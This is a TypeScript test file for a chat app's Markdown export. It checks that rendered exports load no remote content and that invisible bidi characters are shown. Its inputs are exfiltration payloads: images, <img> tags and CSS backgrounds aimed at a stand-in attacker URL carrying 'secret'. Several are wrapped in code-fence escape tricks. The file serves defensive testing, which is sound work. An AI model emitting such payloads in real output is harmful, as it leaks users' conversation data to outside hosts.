import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { exportMarkdown } from '../../src/chat/export-markdown.ts';
import type { ChatMessage } from '../../src/wire/chat.ts';

const message = (...texts: string[]): ChatMessage => ({
  ...{
    id: 1,
    parent: null,
    role: 'assistant',
    status: 'done',
    fault: null,
    model: 'm',
    at: '',
    branches: [1],
  },
  parts: texts.map((text) => ({ type: 'text', step: 0, text })),
});

/** What another program shows of an export, with HTML, which most allow. */
const shown = (...texts: string[]): string =>
  new MarkdownIt({ html: true, linkify: true }).render(
    exportMarkdown(
      'A chat',
      texts.map((text) => message(text)),
    ),
  );

const LEAK = 'https://evil.example/leak.png?q=secret';

describe('an exported conversation', () => {
  it.each([
    ['a picture', [`![a](${LEAK})`]],
    ['a picture by reference', [`![a]\n\n[a]: ${LEAK}`]],
    ['an escaped picture', [`\\![a](${LEAK}) \\\\![a](${LEAK})`]],
    ['a picture in a link', [`[![a](${LEAK})](https://x.example)`]],
    ['HTML', [`<img src="${LEAK}"> a<img src="${LEAK}"> \\<img src="${LEAK}"> \\\\<img src="${LEAK}">`]],
    ['a background', [`<div style="background: url(${LEAK})">a</div>`, `<table background="${LEAK}">`]],
    ['a fence in HTML', [`<div>\n\`\`\`\n\n![a](${LEAK})`]],
    [
      'a fence in a list',
      [`- a\n  \`\`\`\n![a](${LEAK})`, `- \`\`\`\n![a](${LEAK})\n\`\`\`\n\`\`\`\n![a](${LEAK})`],
    ],
    ['a fence that a part leaves open', ['```', `\`\`\`\n![a](${LEAK})`]],
    ['a fence with a backtick in its info', [`\`\`\` a\`b\n![a](${LEAK})`]],
    ['a closed fence', [`~~~\n\`\`\`\n~~~\n![a](${LEAK})`, `\`\`\`\`\n\`\`\`\n\`\`\`\`\`\n![a](${LEAK})`]],
  ])('loads nothing for %s', (_what, texts) => {
    expect(shown(...texts)).not.toMatch(/<(?!\/?(?:h1|h2|p|pre|code|ul|li|a|em|strong)\b)[a-z]/i);
  });

  it('keeps code and type parameters', () => {
    const code = '```rust\nlet a = vec![<T>::new()];\n```\nAn Array<string>';
    expect(exportMarkdown('A chat', [message(code)])).toContain(code);
  });

  it('shows invisible characters', () => {
    expect(exportMarkdown('A chat', [message('a\u202eb')])).toContain('a⟨U+202E⟩b');
  });
});
